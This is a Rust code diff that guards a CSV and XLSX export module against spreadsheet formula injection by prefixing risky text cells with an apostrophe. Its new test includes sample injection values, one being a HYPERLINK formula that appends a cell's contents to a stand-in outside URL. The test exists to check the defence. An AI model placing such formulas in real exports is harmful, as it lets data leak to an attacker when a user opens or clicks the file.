@@ -9,7 +9,7 @@
 //! beyond what Excel keeps) is written as text rather than altered.
 
 use super::ServiceError;
-use crate::domain::{format_czech_date, Money};
+use crate::domain::{format_czech_date, guard_formula, Money};
 use chrono::NaiveDate;
 use rust_decimal::Decimal;
 use rust_xlsxwriter::{Format, FormatBorder, Workbook};
@@ -122,6 +122,11 @@ pub fn xlsx(tables: &[Table]) -> Result<Vec<u8>, ServiceError> {
                     }
                 };
                 match cell {
+                    // A string cell is never a formula; only a text that already starts with `'` is
+                    // guarded, so that the importer's unguarding keeps it as it is.
+                    Cell::Text(s) if s.starts_with('\'') => {
+                        sheet.write_string(r, c, guard_formula(s)).map(|_| ())
+                    }
                     Cell::Text(s) => sheet.write_string(r, c, s).map(|_| ()),
                     Cell::Money(m) => numeric(m.as_decimal(), &money, sheet),
                     Cell::Number(d) => numeric(*d, &number, sheet),
@@ -153,9 +158,14 @@ fn csv_field(text: &str) -> String {
     }
 }
 
+/// A text cell: guarded against being run as a formula (see [`crate::domain::formula_guard`]), quoted.
+fn csv_text(text: &str) -> String {
+    csv_field(&guard_formula(text))
+}
+
 fn csv_cell(cell: &Cell) -> String {
     match cell {
-        Cell::Text(s) => csv_field(s),
+        Cell::Text(s) => csv_text(s),
         Cell::Money(m) => m.as_decimal().round_dp(2).to_string().replace('.', ","),
         Cell::Number(d) => csv_decimal(*d),
         Cell::Percent(p) => csv_decimal(p.round_dp(1)),
@@ -174,13 +184,13 @@ pub fn csv(tables: &[Table]) -> String {
             if i > 0 {
                 out.push_str("\r\n");
             }
-            out.push_str(&csv_field(&t.name));
+            out.push_str(&csv_text(&t.name));
             out.push_str("\r\n");
         }
         out.push_str(
             &t.headers
                 .iter()
-                .map(|h| csv_field(h))
+                .map(|h| csv_text(h))
                 .collect::<Vec<_>>()
                 .join(";"),
         );
@@ -259,6 +269,33 @@ mod tests {
         assert_eq!(
             text,
             "\u{feff}Název;Částka;Datum;Plnění\r\n\"A; \"\"B\"\"\";1234567,89;31.12.2025;87,5\r\n0,10;;;12,5\r\n"
+        );
+    }
+
+    #[test]
+    fn csv_text_that_starts_a_formula_gets_an_apostrophe_and_numbers_stay_numbers() {
+        let mut t = Table::new("Projekty", &["Název", "Částka", "Množství"]);
+        t.rows.push(vec![
+            Cell::Text(r#"=HYPERLINK("http://x/?"&A1;"Detail")"#.into()),
+            Cell::Money(Money::parse("-1 000,50").unwrap()),
+            Cell::Number(dec("-3")),
+        ]);
+        t.rows.push(vec![
+            Cell::Text("+420".into()),
+            Cell::Text("-sleva".into()),
+            Cell::Text("@SUM(A1)".into()),
+        ]);
+        t.rows.push(vec![
+            Cell::Text("\tx".into()),
+            Cell::Text("\rx".into()),
+            Cell::Text("Nová etapa".into()),
+        ]);
+        assert_eq!(
+            csv(&[t]),
+            "\u{feff}Název;Částka;Množství\r\n\
+             \"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"Detail\"\")\";-1000,50;-3\r\n\
+             '+420;'-sleva;'@SUM(A1)\r\n\
+             '\tx;\"'\rx\";Nová etapa\r\n"
         );
     }
 
